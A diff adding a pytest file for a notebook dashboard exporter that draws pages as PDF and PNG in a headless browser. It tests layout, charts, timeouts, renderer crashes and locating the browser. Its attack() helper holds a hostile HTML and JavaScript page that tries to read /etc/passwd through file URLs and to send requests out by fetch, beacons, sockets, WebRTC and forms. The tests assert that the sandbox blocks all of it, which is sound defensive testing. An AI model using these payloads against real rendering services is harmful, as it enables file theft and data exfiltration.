@@ -1,0 +1,300 @@
+"""Pages as PDF and PNG by a real browser, and what it is never let to do."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import io
+import os
+import signal
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import psutil
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
+from PIL import Image
+from pypdf import PdfReader
+
+from jupyter_dashboards_api.conversion.browser import (
+    ConversionFailed,
+    NoBrowser,
+    PageBrowser,
+    find_executable,
+)
+from jupyter_dashboards_api.conversion.exporter import PageExporter
+from jupyter_dashboards_api.conversion.page import MemoryPage
+from tests.browser.attacks import HTML, bundles
+
+from .conftest import MakePage
+
+EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
+
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]
+
+
+def pdf(data: bytes) -> PdfReader:
+    return PdfReader(io.BytesIO(data))
+
+
+def picture(data: bytes) -> Image.Image:
+    return Image.open(io.BytesIO(data)).convert("RGB")
+
+
+def html_output(text: str) -> Any:
+    return new_code_cell("", outputs=[new_output("display_data", {"text/html": text})])
+
+
+def red(side: int) -> str:
+    return f'<div style="width:{side}px;height:{side}px;background:rgb(255,0,0)"></div>'
+
+
+async def test_a_report_is_a4_pages_with_no_cell_cut(browser: PageBrowser, page: MakePage) -> None:
+    cells = [
+        html_output(f"<p>cell {i}</p><div style='height:500px'></div>end {i}") for i in range(7)
+    ]
+    read = pdf(await browser.draw(page(*cells), "pdf"))
+    texts = [sheet.extract_text() for sheet in read.pages]
+    assert len(texts) == 4
+    for number in range(7):
+        assert any(f"cell {number}" in text and f"end {number}" in text for text in texts)
+    assert [round(float(side)) for side in read.pages[0].mediabox[2:]] == [596, 843]
+
+
+async def test_a_grid_is_one_page_of_the_contents_size(
+    browser: PageBrowser, exporter: PageExporter
+) -> None:
+    notebook = nbformat.read(EXAMPLES / "city-bikes.ipynb", as_version=4)
+    made = exporter.page(notebook, "x.ipynb", is_note=False, show_code=False, trusted=False)
+    assert made.is_board
+    read = pdf(await browser.draw(made, "pdf"))
+    assert len(read.pages) == 1
+    assert "Central Station" in read.pages[0].extract_text()
+    drawn = picture(await browser.draw(made, "png"))
+    assert drawn.width == 1100
+    # The one sheet is about as tall as the picture.
+    assert 0.7 < float(read.pages[0].mediabox.height) * 96 / 72 / drawn.height < 1.4
+
+
+async def test_a_tall_page_is_one_picture(browser: PageBrowser, page: MakePage) -> None:
+    cell = html_output(f"<div style='height:20000px'></div>{red(50)}")
+    drawn = picture(await browser.draw(page(cell, trusted=True), "png"))
+    assert drawn.height > 20_000
+    assert (255, 0, 0) in {
+        drawn.getpixel((x, y)) for x in range(0, 100, 10) for y in range(20_000, drawn.height, 10)
+    }
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("plotly", ["Where the power came from", "May 8, 2025"]),
+        ("altair", ["apples, kg a year", "Discovery"]),
+        ("mathematics", ["One, three and fifteen terms", "cases"]),
+    ],
+)
+async def test_charts_and_formulas_are_drawn(
+    browser: PageBrowser, exporter: PageExporter, name: str, words: list[str]
+) -> None:
+    notebook = nbformat.read(EXAMPLES / f"{name}.ipynb", as_version=4)
+    made = exporter.page(notebook, "x.ipynb", is_note=True, show_code=False, trusted=False)
+    read = pdf(await browser.draw(made, "pdf"))
+    text = " ".join(sheet.extract_text() for sheet in read.pages)
+    if name == "mathematics":
+        # As text the formula would still have its commands.
+        assert "\\frac" not in text
+        assert "KaTeX" in str(
+            [
+                f
+                for s in read.pages
+                for f in s["/Resources"]["/Font"].values()
+                for f in [f.get_object()["/BaseFont"]]
+            ]
+        )
+    else:
+        for word in words:
+            assert word in text
+
+
+def attack(home: str) -> str:
+    """Everything that could leave a page, or take a file into it."""
+    port = home.rpartition(":")[2]
+    return f"""
+<link rel=preconnect href="{home}"><link rel=dns-prefetch href="{home}"><link rel=prefetch href="{home}/prefetch">
+<link rel=stylesheet href="{home}/sheet.css"><style>@font-face{{font-family:x;src:url({home}/font.woff)}}
+p{{font-family:x;background:url({home}/back.png)}}</style><p>x</p>
+<img src="{home}/image.png"><img src="file:///etc/hostname"><iframe src="{home}/frame" width=900 height=300></iframe>
+<iframe src="file:///etc/passwd" width=900 height=300></iframe><object data="file:///etc/passwd" width=900 height=300></object>
+<embed src="file:///etc/passwd" width=900 height=300><video src="{home}/video"></video>
+<meta http-equiv=refresh content="0;url={home}/refresh">
+<script>
+const go = (work) => {{ try {{ const p = work(); if (p && p.catch) p.catch(() => 0); }} catch {{}} }};
+go(() => fetch("{home}/fetch", {{mode: "no-cors"}}));
+go(() => fetch("file:///etc/passwd").then((r) => r.text()).then((t) => document.body.append(t)));
+go(() => new WebSocket("ws://127.0.0.1:{port}/socket"));
+go(() => navigator.sendBeacon("{home}/beacon", "x"));
+go(() => new Worker(URL.createObjectURL(new Blob(["fetch('{home}/worker')"]))));
+go(() => new SharedWorker("{home}/shared.js"));
+go(() => navigator.serviceWorker.register("/sw.js"));
+go(() => new EventSource("{home}/events"));
+go(() => new WebTransport("https://127.0.0.1:{port}/transport"));
+go(() => open("{home}/open"));
+go(() => import("{home}/module.js"));
+go(() => {{ const x = new XMLHttpRequest(); x.open("GET", "{home}/xhr"); x.send(); }});
+go(() => {{ const c = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}});
+  c.createDataChannel("x"); return c.createOffer().then((o) => c.setLocalDescription(o)); }});
+go(() => {{ const f = document.createElement("iframe"); document.body.append(f);
+  const c = new f.contentWindow.RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}});
+  c.createDataChannel("x"); return c.createOffer().then((o) => c.setLocalDescription(o)); }});
+go(() => {{ const f = document.createElement("form"); f.action = "{home}/form"; f.method = "post"; document.body.append(f); f.submit(); }});
+document.body.dataset.attacked = "";
+</script>{"".join(HTML.values()).replace("{home}", home)}"""
+
+
+class Listener:
+    """Counts what arrives at a port, by TCP and by UDP."""
+
+    def __init__(self) -> None:
+        self.arrived: list[str] = []
+
+    async def start(self) -> str:
+        async def met(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+            self.arrived.append("TCP")
+            writer.close()
+
+        self._server = await asyncio.start_server(met, "127.0.0.1", 0)
+        port = self._server.sockets[0].getsockname()[1]
+        arrived = self.arrived
+
+        class Datagrams(asyncio.DatagramProtocol):
+            def datagram_received(self, data: bytes, addr: Any) -> None:
+                arrived.append("UDP")
+
+        loop = asyncio.get_running_loop()
+        self._udp, _ = await loop.create_datagram_endpoint(
+            Datagrams, local_addr=("127.0.0.1", port)
+        )
+        return f"http://127.0.0.1:{port}"
+
+    def stop(self) -> None:
+        self._server.close()
+        self._udp.close()
+
+
+def words(process: psutil.Process) -> str:
+    """The command line of a process, which may have ended."""
+    try:
+        return " ".join(process.cmdline())
+    except psutil.Error:
+        return ""
+
+
+def bare(html: str) -> MemoryPage:
+    """A page with nothing of ours to protect it: no policy, no sanitiser."""
+    page = f"<!doctype html><body data-ready>{html}</body>"
+    return MemoryPage(page.encode(), "", is_board=False, lookup=lambda path: None)
+
+
+@pytest.mark.parametrize("kind", ["as it is", "trusted", "untrusted"])
+async def test_of_the_attack_page_nothing_arrives_and_no_file_is_in_the_picture(
+    browser: PageBrowser, page: MakePage, kind: str
+) -> None:
+    listener = Listener()
+    home = await listener.start()
+    try:
+        if kind == "as it is":
+            made = bare(attack(home))
+        else:
+            cells = [html_output(attack(home)), new_markdown_cell(attack(home))]
+            cells += [
+                new_code_cell("", outputs=[new_output("display_data", bundle)])
+                for bundle in bundles(home).values()
+            ]
+            made = page(*cells, trusted=kind == "trusted")
+        browser.settle_timeout = 3
+        read = pdf(await browser.draw(made, "pdf"))
+        text = " ".join(sheet.extract_text() for sheet in read.pages)
+        assert "root:" not in text
+        assert Path("/etc/hostname").read_text().strip() not in text
+        await browser.draw(made, "png")
+        assert listener.arrived == []
+    finally:
+        listener.stop()
+
+
+async def test_an_endless_script_ends_with_the_timeout_and_the_next_page_is_drawn(
+    browser: PageBrowser, page: MakePage
+) -> None:
+    browser.timeout = 3
+    with pytest.raises(ConversionFailed, match="within 3 s"):
+        await browser.draw(bare("<script>for(;;);</script>"), "png")
+    browser.timeout = 30
+    assert picture(await browser.draw(page(new_markdown_cell("# fine")), "png")).width == 1100
+
+
+async def test_a_crash_of_the_renderer_is_told_at_once_and_the_next_page_is_drawn(
+    browser: PageBrowser, page: MakePage
+) -> None:
+    await browser.draw(page(new_markdown_cell("# fine")), "png")
+    drawing = asyncio.ensure_future(browser.draw(bare("<p aria-busy=true>never</p>"), "png"))
+    # The page itself must be there: a spare renderer waits beside it.
+    while not drawing.done():
+        await asyncio.sleep(0.1)
+        for process in psutil.Process().children(recursive=True):
+            if "--type=renderer" in words(process):
+                os.kill(process.pid, signal.SIGKILL)
+    with pytest.raises(ConversionFailed):
+        await asyncio.wait_for(drawing, 12)
+    assert picture(await browser.draw(page(new_markdown_cell("# fine")), "png")).width == 1100
+
+
+async def test_a_killed_browser_is_replaced(browser: PageBrowser, page: MakePage) -> None:
+    await browser.draw(page(new_markdown_cell("# fine")), "png")
+    for process in psutil.Process().children(recursive=True):
+        if "--remote-debugging-pipe" in words(process) and "--type=" not in words(process):
+            os.kill(process.pid, signal.SIGKILL)
+    await asyncio.sleep(0.2)
+    assert picture(await browser.draw(page(new_markdown_cell("# fine")), "png")).width == 1100
+
+
+async def test_without_a_browser_the_error_names_what_to_install(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, page: MakePage
+) -> None:
+    monkeypatch.setenv("PATH", str(tmp_path))
+    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path))
+    with pytest.raises(NoBrowser, match="install chromium-headless-shell or chromium") as refused:
+        await PageBrowser().draw(page(), "pdf")
+    assert refused.value.status == 422
+
+
+def test_the_browser_is_found_where_debian_and_playwright_put_it(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    def put(name: str) -> str:
+        file = tmp_path / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text("")
+        file.chmod(0o755)
+        return str(file)
+
+    monkeypatch.setenv("PATH", str(tmp_path))
+    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path / "own"))
+    assert find_executable() is None
+    own = put("own/chromium-1200/chrome-linux/chrome")
+    assert find_executable() == own
+    full = put("chromium")
+    assert find_executable() == full
+    shell = put("chromium-headless-shell")
+    assert find_executable() == shell
+    assert find_executable(full) == full
+    assert find_executable("nowhere") is None
+
+
+async def test_a_pictures_bytes_are_in_the_page(browser: PageBrowser, page: MakePage) -> None:
+    square = io.BytesIO()
+    Image.new("RGB", (40, 40), (0, 0, 255)).save(square, "png")
+    data = {"image/png": base64.b64encode(square.getvalue()).decode()}
+    cell = new_code_cell("", outputs=[new_output("display_data", data)])
+    drawn = picture(await browser.draw(page(cell), "png"))
+    assert any(color == (0, 0, 255) for _, color in drawn.getcolors(1 << 24) or [])
